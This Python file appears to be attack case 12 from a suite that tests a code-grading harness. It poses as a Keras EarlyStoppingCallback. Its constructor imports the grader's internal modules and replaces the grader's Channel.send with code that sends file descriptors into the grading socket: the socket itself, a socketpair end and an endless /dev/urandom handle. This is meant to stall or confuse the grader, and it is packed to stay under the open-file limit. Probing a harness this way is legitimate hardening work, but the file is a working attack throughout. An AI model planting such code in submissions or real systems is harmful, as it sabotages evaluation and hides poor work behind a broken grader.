# attack: 12
# form: sends descriptors, its own channel among them, into the channel, for the grader to hold open or read
# replaces: EarlyStoppingCallback
# found: EarlyStoppingCallback/stops_when_both_hold failed
# allows: own pair
import tensorflow as tf


class EarlyStoppingCallback(tf.keras.callbacks.Callback):
    def __init__(self):
        super().__init__()
        import grader.student.cell as cell
        from grader.wire import encode

        print("ran")

        def send(channel, message, timeout_s=None):
            import os
            import socket

            data = b"".join(bytes(chunk) for chunk in encode(message))
            sock = channel._sock
            sock.setblocking(True)
            one, other = socket.socketpair()
            socket.send_fds(one, [b"x"], [0])
            received = socket.recv_fds(other, 1, 1)[1]
            print("allowed: own pair" if received else "refused: own pair", flush=True)
            endless = os.open("/dev/urandom", os.O_RDONLY)
            for start in range(0, len(data), 16):
                # More than this at once is refused: they count against the limit of open files.
                socket.send_fds(sock, [data[start : start + 16]], [sock.fileno(), one.fileno(), endless] * 4)

        cell.Channel.send = send
